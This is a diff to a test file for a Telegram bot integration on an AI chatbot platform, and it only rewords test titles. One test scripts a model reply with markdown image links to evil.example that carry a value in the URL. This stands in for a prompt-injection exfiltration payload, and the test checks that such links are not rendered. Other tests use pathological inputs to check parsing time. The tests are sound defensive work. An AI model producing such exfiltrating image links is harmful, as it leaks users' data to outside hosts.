@@ -46,7 +46,7 @@ const install = async (botToken = service.token) =>
 
 const told = () => service.sent.map(({ text }) => text);
 
-test('a bot is installed with its token: its service knows where to send messages, and nobody reads the token', async () => {
+test('a bot is installed with its token: its service learns the webhook, and nobody can read the token', async () => {
   const { plugin } = await owner.plugin.get({ id: pluginId });
   expect(plugin).toMatchObject({
     type: 'telegram',
@@ -61,14 +61,14 @@ test('a bot is installed with its token: its service knows where to send message
   expect(service.webhook).toBeUndefined();
 });
 
-test('a wrong token is said in plain words, and a right one mends it', async () => {
+test('a wrong token is reported in plain words, and a right one fixes it', async () => {
   const { id, health } = await install('1:wrong');
   expect(health).toMatchObject({ state: 'failing', error: 'Telegram said: Unauthorized' });
   const { plugin } = await owner.plugin.update({ id, credentials: { botToken: service.token } });
   expect(plugin.health).toMatchObject({ state: 'healthy', error: null });
 });
 
-test('what somebody writes to the bot is answered there, in a conversation of theirs that shows its channel', async () => {
+test('a message to the bot is answered there, in a conversation of its sender’s that shows its channel', async () => {
   expect(await service.deliver(service.message('When does the shop close?'))).toBe(200);
   await expect.poll(told, { timeout: 10_000 }).toHaveLength(1);
   expect(told()[0]).toContain('Until nine');
@@ -82,7 +82,7 @@ test('what somebody writes to the bot is answered there, in a conversation of th
   expect(new Set(both.map(({ conversationId }) => conversationId)).size).toBe(1);
 });
 
-test('an answer shows no picture and no preview: nobody fetches what a model was led to write', async () => {
+test('an answer shows no image and no preview, so nobody fetches what a model was led to write', async () => {
   const pieces = ['![Look](https://evil.example/a?told=4711) !![and](https://evil.example/b) `![code](c)`'];
   provider.script = { pieces };
   await service.deliver(service.message('When does the shop close?'));
@@ -98,7 +98,7 @@ test.each([
   ['quotes in quotes', '>'.repeat(30_000)],
   ['marks in marks', `${'*_'.repeat(8000)}a${'_*'.repeat(8000)}`],
 ])(
-  '%s, written or answered: nobody is held up',
+  '%s, in a message or an answer, block nobody',
   async (_what, slow) => {
     provider.script = { pieces: [slow] };
     const began = performance.now();
@@ -111,7 +111,7 @@ test.each([
   20_000,
 );
 
-test('the same update sent again is answered once, and a forged one not at all', async () => {
+test('an update delivered again is answered once, a forged one not at all', async () => {
   const update = service.message('When does the shop close?');
   const statuses = await Promise.all(Array.from({ length: 5 }, () => service.deliver(update)));
   expect(statuses).toEqual([200, 200, 200, 200, 200]);
@@ -122,7 +122,7 @@ test('the same update sent again is answered once, and a forged one not at all',
   expect((await owner.plugin.listMessages({ id: pluginId })).messages).toHaveLength(1);
 });
 
-test('a paused bot keeps nothing, and a removed one is not there', async () => {
+test('a paused bot stores nothing, and a removed one does not exist', async () => {
   await owner.plugin.update({ id: pluginId, status: 'paused' });
   expect(await service.deliver(service.message('Hello?'))).toBe(200);
   expect((await owner.plugin.listMessages({ id: pluginId })).messages).toEqual([]);
@@ -132,7 +132,7 @@ test('a paused bot keeps nothing, and a removed one is not there', async () => {
   expect(await service.deliver(service.message('Hello?'))).toBe(404);
 });
 
-test('in a group it answers who names it, and then goes on with them alone', async () => {
+test('in a group it answers whoever mentions it, and continues with them alone', async () => {
   await service.deliver(service.groupMessage('What a nice day'));
   await service.deliver(service.groupMessage('@helper_bot when does the shop close?'));
   await expect.poll(told, { timeout: 10_000 }).toHaveLength(1);
@@ -142,7 +142,7 @@ test('in a group it answers who names it, and then goes on with them alone', asy
   expect(messages.map(({ text }) => text)).toEqual(['when does the shop close?']);
 });
 
-test('what a service cannot take now is brought later, once', async () => {
+test('a message that the service cannot accept now is delivered later, once', async () => {
   service.failing = { status: 500, times: 1 };
   await service.deliver(service.message('When does the shop close?'));
   await expect.poll(told, { timeout: 60_000 }).toHaveLength(1);
@@ -153,7 +153,7 @@ test('what a service cannot take now is brought later, once', async () => {
   expect((await owner.plugin.get({ id: pluginId })).plugin.health.state).toBe('healthy');
 });
 
-test('a long answer comes in parts that the service takes', async () => {
+test('a long answer is split into parts that the service accepts', async () => {
   const words = Array.from({ length: 1500 }, (_, index) => `word${index}${index % 50 === 49 ? '\n\n' : ' '}`);
   provider.script = { pieces: words };
   await service.deliver(service.message('Tell me everything'));
@@ -179,7 +179,7 @@ const queued = async () =>
     )
   ).rows[0]?.count;
 
-test('what waited while a plugin was paused is answered when it goes on', async () => {
+test('messages that waited while a plugin was paused are answered when it resumes', async () => {
   await leaveUnanswered();
   await owner.plugin.update({ id: pluginId, status: 'paused' });
   service.failing.times = 0;
@@ -189,7 +189,7 @@ test('what waited while a plugin was paused is answered when it goes on', async 
   await expect.poll(told, { timeout: 10_000 }).toHaveLength(1);
 });
 
-test('what waited while an agent was in the trash is answered when it is back', async () => {
+test('messages that waited while an agent was in the trash are answered after its restore', async () => {
   await leaveUnanswered();
   await owner.chatbot.remove({ id: agentId, organizationId });
   service.failing.times = 0;
@@ -199,7 +199,7 @@ test('what waited while an agent was in the trash is answered when it is back', 
   await expect.poll(told, { timeout: 10_000 }).toHaveLength(1);
 });
 
-test('what waited for days is answered: who wrote it is not forgotten, also where nothing was said yet', async () => {
+test('messages that waited for days are answered, and their senders remembered even if nothing was said yet', async () => {
   await leaveUnanswered('/start');
   await owner.plugin.update({ id: pluginId, status: 'paused' });
   service.failing.times = 0;
